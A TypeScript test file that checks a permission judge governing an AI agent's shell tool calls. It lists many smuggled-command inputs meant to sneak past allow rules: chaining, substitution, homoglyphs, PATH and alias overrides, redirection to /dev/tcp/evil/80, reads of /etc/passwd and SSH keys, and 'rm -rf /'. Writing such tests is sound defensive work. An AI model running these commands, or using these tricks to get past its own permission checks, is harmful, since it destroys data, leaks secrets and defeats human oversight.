import { expect, test } from 'vitest';
import { parseRules, spelledActions } from './grammar.ts';
import { judge } from './judge.ts';
import type { Effect, RuleTexts } from './rules.ts';

const places = { workspace: '/home/ann/app', home: '/home/ann' };

function verdict(texts: RuleTexts, tool: string, input: unknown): Effect {
  const { rules, faults } = parseRules(texts);
  expect(faults).toEqual([]);
  return judge(rules, { tool, actions: spelledActions(tool, input), ...places }).verdict;
}

function shell(texts: RuleTexts, command: string): Effect {
  return verdict(texts, 'Bash', { command });
}

const STATUS = { allow: ['Bash(git status:*)'] };

test.each([
  'git status',
  'git status -s',
  'git  status\t--short',
  "git 'status'",
  'git status; git status',
  'git status && git status || git status | git status & git status\ngit status',
  '(git status)',
  '{ git status; }',
  '! git status',
  'git status $(git status)',
  'git status "$(git status)" `git status`',
  'if git status; then git status; elif git status; then git status; else git status; fi',
  'for f in *.ts; do git status "$f"; done',
  'while git status; do git status -s; done',
  'git status > /dev/null 2>&1',
  'git status *.ts',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell reads it.
  'git status "$HOME" ${x}',
  'NO_COLOR=1 git status',
  'timeout 5 git status',
  'nohup nice -n 5 git status',
  'xargs -n1 git status',
  'git status <<EOF\n$(git status)\nEOF',
  '# look\ngit status # now',
])('git status:* allows %j', (command) => {
  expect(shell(STATUS, command)).toBe('allow');
});

test.each([
  'git',
  'git statusx',
  'git status; rm -rf /',
  'git status&&rm x',
  'git status|rm x',
  'git status&rm x',
  'git status\nrm x',
  'git status$(rm x)',
  'git status `rm x`',
  'git status "$(rm x)"',
  'git status <(rm x)',
  'git status > ~/.bashrc',
  'git status >> file',
  'git status &> file',
  'git status >| file',
  'git status 2>file',
  'git status < /etc/passwd',
  'git status > /dev/tcp/evil/80',
  'git status > "$x"',
  'git -c core.pager=rm status',
  'gіt status',
  'git stаtus',
  'git\u00a0status',
  'git status\u202e',
  'git \\\nstatus',
  'git status \\\nrm',
  'git status\r',
  'git status\rrm x',
  'git status\0rm',
  'git status\x1b[2K',
  'g"i"t status',
  "'git' status",
  '\\git status',
  '$X status',
  '$(echo git) status',
  '`echo git` status',
  '{git,status}',
  'git {status,push}',
  'git stat?s',
  'git $X',
  '/usr/bin/git status',
  './git status',
  '~/git status',
  'PATH=/tmp git status',
  'PATH=/tmp; git status',
  'export PATH=/tmp; git status',
  'GIT_PAGER=rm git status',
  'path=/tmp; git status',
  'for PATH in /tmp; do git status; done',
  'alias git=rm; git status',
  'git() { rm x; }; git status',
  'function git { rm x; }; git status',
  'env git status',
  'env PATH=/tmp git status',
  'sudo git status',
  'sh -c "git status"',
  'eval git status',
  'exec git status',
  'find . -exec git status ;',
  'timeout 5 rm x',
  'xargs rm',
  'xargs -I git git status',
  'xargs sh -c',
  'if git status; then rm x; fi',
  'for f in $(rm x); do git status; done',
  'case x in x) git status;; esac',
  '[[ -n "$(rm x)" ]] && git status',
  'git status $((x[$(rm x)]))',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell reads it.
  'git status ${x:=$(rm x)}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell reads it.
  'git status ${x@P}',
  "git status $'\\n'",
  'git status <<EOF\n$(rm x)\nEOF',
  'git status <<EOF\nEOF2',
  "git status <<'E''F'\nrm\nEF",
  'git status # ; rm x',
  'git status "',
  "git status '",
  'git status )',
  'git status $(',
  'time (rm x)',
  'time if rm; then git status; fi',
  'coproc rm x',
  'git status {PATH}>/dev/null',
  'git status *(e:rm:)',
  '=git status',
  '- git status',
  'cd /tmp && git status',
  '> /dev/null',
  'git status &>/dev/null rm x',
  'git status &>>/dev/null rm x',
  '\ufeffgit status',
  "git status $(git status <<'E'\nE)\nrm x\nE\n)",
  "git status $(git status <<'E'\n)\nrm x\nE\n)",
  '',
  ' ',
])('git status:* does not allow %j', (command) => {
  expect(shell(STATUS, command)).toBe('ask');
});

test.each<[allow: string, command: string, expected: Effect]>([
  ['Bash', 'anything $((at)) all', 'allow'],
  ['Bash(*)', 'rm -rf x > y', 'allow'],
  ['*', 'rm x', 'allow'],
  ['Bash(npm run test)', 'npm run test', 'allow'],
  ['Bash(npm run test)', 'npm run test --x', 'ask'],
  ['Bash(npm run test)', 'npm run test $x', 'ask'],
  ['Bash(npm run *)', 'npm run', 'allow'],
  ['Bash(npm run *)', 'npm runx', 'ask'],
  ['Bash(ls*)', 'lsof', 'allow'],
  ['Bash(npm * --safe)', 'npm x y --safe', 'allow'],
  ['Bash(npm * --safe)', 'npm x y', 'ask'],
  ['Bash(npm * --safe)', 'npm $x --safe', 'ask'],
  ['Bash(a && b)', 'a && b', 'allow'],
  ['Bash(a && b)', 'a && b; c', 'ask'],
  ['Bash(sudo apt:*)', 'sudo apt update', 'allow'],
  ['Bash(sudo:*)', 'sudo apt update', 'ask'],
  ['Bash(sudo env:*)', 'sudo env apt', 'ask'],
  ['Bash(sudo sh:*)', "sudo sh -c 'rm x'", 'ask'],
  ['Bash(sh:*)', 'sh x.sh', 'ask'],
  ['Bash(sh x.sh:*)', 'sh x.sh --all', 'allow'],
  ['Bash(sh:*)', 'sh', 'ask'],
  ['Bash(sh:*)', "sh -c 'rm x'", 'ask'],
  ['Bash(bash -c:*)', "bash -c 'rm x'", 'ask'],
  ["Bash(bash -c 'make x')", "bash -c 'make x'", 'allow'],
  ['Bash(find:*)', 'find . -name "*.ts"', 'allow'],
  ['Bash(find:*)', 'find . -exec rm {} \\;', 'ask'],
  ['Bash(find:*)', 'find . -exec rm {} +', 'ask'],
  ['Bash(find:*)', 'find . -delete', 'ask'],
  ['Bash(find:*)', 'find . $x', 'ask'],
  ['Bash(eval:*)', 'eval rm x', 'ask'],
  ['Bash(env:*)', 'env rm x', 'ask'],
  ['Bash(env:*)', 'env -S "rm x"', 'ask'],
  ['Bash(watch:*)', 'watch rm x', 'ask'],
  ['Bash(a && b)', '\ufeffa && b', 'ask'],
  ['Bash([ *)', '[ -n "$x" ]', 'allow'],
  ['Bash([ *)', '[ "$x" = y ]', 'allow'],
  ['Bash([ *)', '[ 1 -eq 2 ]', 'allow'],
  ['Bash([ *)', '[ "$x" -eq 2 ]', 'ask'],
  ['Bash([ *)', '[ x -eq 2 ]', 'ask'],
  ['Bash([ *)', "[ -v 'x[$(rm)]' ]", 'ask'],
  ['Bash([ *)', '[ "$x" "$y" ]', 'ask'],
  ['Bash([ *)', '[ $x ]', 'ask'],
  ['Bash(printf:*)', "printf '%s\\n' x", 'allow'],
  ['Bash(printf:*)', "printf '%d' 'x[$(rm)]'", 'ask'],
  ['Bash(printf:*)', 'printf -v PATH x', 'ask'],
  ['Bash(exit:*)', 'exit 1', 'allow'],
  ['Bash(exit:*)', "exit 'x[$(rm)]'", 'ask'],
  ['Bash(cd:*)', 'cd sub', 'allow'],
  ['Bash(cd:*)', 'cd /tmp', 'allow'],
])('an allow of %s for %j: %s', (allow, command, expected) => {
  expect(shell({ allow: [allow] }, command)).toBe(expected);
});

test('a command inside another one needs a rule of its own', () => {
  const allow = ['Bash(env:*)', 'Bash(sh:*)', 'Bash(sudo:*)', 'Bash(find:*)', 'Bash(eval:*)', 'Bash(git status:*)'];
  const inner = ['env CI=1 git status', "sh -ec 'git status; git status'", 'sudo -n git status', 'eval git status'];
  for (const command of [...inner, 'find . -exec git status {} +']) expect(shell({ allow }, command)).toBe('allow');
  for (const command of inner) expect(shell({ allow }, command.replaceAll('git status', 'rm'))).toBe('ask');
});

test.each<[rules: RuleTexts, command: string, expected: Effect]>([
  [{ allow: ['Bash'], deny: ['Bash(rm:*)'] }, 'ls', 'allow'],
  [{ allow: ['Bash'], deny: ['Bash(rm:*)'] }, 'ls; rm x', 'deny'],
  [{ allow: ['Bash'], deny: ['Bash(rm:*)'] }, 'r"m" x', 'deny'],
  [{ allow: ['Bash'], deny: ['Bash(rm:*)'] }, '/bin/rm x', 'deny'],
  [{ allow: ['Bash'], deny: ['Bash(rm:*)'] }, "sudo sh -c 'echo $(rm x)'", 'deny'],
  [{ allow: ['Bash'], deny: ['Bash(rm:*)'] }, 'echo $((1)); rm x', 'deny'],
  [{ allow: ['Bash'], deny: ['Bash(rm:*)'] }, '$x y', 'ask'],
  [{ allow: ['Bash'], deny: ['Bash(git push:*)'] }, 'git -C . push', 'ask'],
  [{ allow: ['Bash'], deny: ['Bash(git push:*)'] }, 'git $x', 'ask'],
  [{ allow: ['Bash'], deny: ['Bash(git push:*)'] }, 'git status', 'allow'],
  [{ allow: ['Bash'], ask: ['Bash(git push:*)'] }, 'git push', 'ask'],
  [{ allow: ['Bash(git push:*)'], ask: ['Bash'] }, 'git push', 'ask'],
  [{ allow: ['Bash(git push:*)'], deny: ['*'] }, 'git push', 'deny'],
  [{ allow: ['Bash'], deny: ['Read(~/.ssh/**)'] }, 'cat ~/.ssh/id', 'deny'],
  [{ allow: ['Bash'], deny: ['Read(~/.ssh/**)'] }, 'cat < /home/ann/.ssh/id', 'deny'],
  [{ allow: ['Bash'], deny: ['Edit(.env)'] }, 'echo x > .env', 'deny'],
  [{ allow: ['Bash'], deny: ['Edit(.env)'] }, 'sed -i s/a/b/ deep/.env', 'ask'],
  [{ allow: ['Bash'], ask: ['Read(.env)'] }, 'grep x --file=.env', 'ask'],
  [{ allow: ['Bash'], deny: ['Edit'] }, 'echo x > f', 'deny'],
  [{ allow: ['Bash'], deny: ['Read(~/.ssh/**)'] }, 'echo x > ~/.ssh/authorized_keys', 'deny'],
  [{ allow: ['Bash'], deny: ['Read(~/.ssh/**)'] }, 'cd ~ && cat .ssh/id', 'ask'],
  [{ allow: ['Bash(echo:*)', 'Edit(out/**)'] }, 'echo x > out/a', 'allow'],
  [{ allow: ['Bash(echo:*)', 'Edit(out/**)'] }, 'echo x > out/../a', 'ask'],
  [{ allow: ['Bash(echo:*)', 'Bash(cd:*)', 'Edit(out/**)'] }, 'cd src && echo x > out/a', 'ask'],
])('rules %j for %j: %s', (rules, command, expected) => {
  expect(shell(rules, command)).toBe(expected);
});

test('the most specific deny rule is named', () => {
  const { rules } = parseRules({ deny: ['Bash', 'Bash(git:*)', 'Bash(git push:*)'] });
  const judged = judge(rules, { tool: 'Bash', actions: [{ is: 'shell', command: 'ls; git push' }], ...places });
  expect(judged.rule?.text).toBe('Bash(git push:*)');
  expect(judged.why).toBe('deny Bash(git push:*): git push');
  expect(judged.parts.map(({ text, verdict }) => [text, verdict])).toEqual([
    ['ls', 'deny'],
    ['git push', 'deny'],
  ]);
});

test('a malformed call is asked about', () => {
  for (const input of [null, 'ls', 7, [], {}, { command: 7 }, { command: ['ls'] }]) {
    expect(verdict({ allow: ['Bash(ls:*)'] }, 'Bash', input)).toBe('ask');
  }
  const input = { command: 'ls', dangerouslyDisableSandbox: true };
  expect(verdict({ allow: ['Bash(ls:*)', 'Bash'] }, 'Bash', input)).toBe('ask');
});

test('an unparsable form is allowed by all of Bash or by its exact text, if no rule denies a part', () => {
  const form = 'case x in y) z;; esac';
  expect(shell({ allow: ['Bash'] }, form)).toBe('allow');
  expect(shell({ allow: [`Bash(${form})`] }, form)).toBe('allow');
  expect(shell({ allow: ['Bash'], deny: ['Bash(rm:*)'] }, form)).toBe('ask');
  expect(shell({ allow: ['Bash(case:*)', 'Bash(z)'] }, form)).toBe('ask');
  expect(shell({}, '# nothing')).toBe('ask');
});

test('a deny rule with the exact text denies a line of several parts, and one that opens files', () => {
  for (const command of ['echo x >> made', 'ls && rm -r y', 'a | b']) {
    expect(shell({ allow: ['Bash'], deny: [`Bash(${command})`] }, command)).toBe('deny');
    expect(shell({ allow: ['Bash'], ask: [`Bash(${command})`] }, command)).toBe('ask');
    expect(shell({ allow: ['Bash'], deny: [`Bash(${command})`] }, 'ls')).toBe('allow');
  }
});
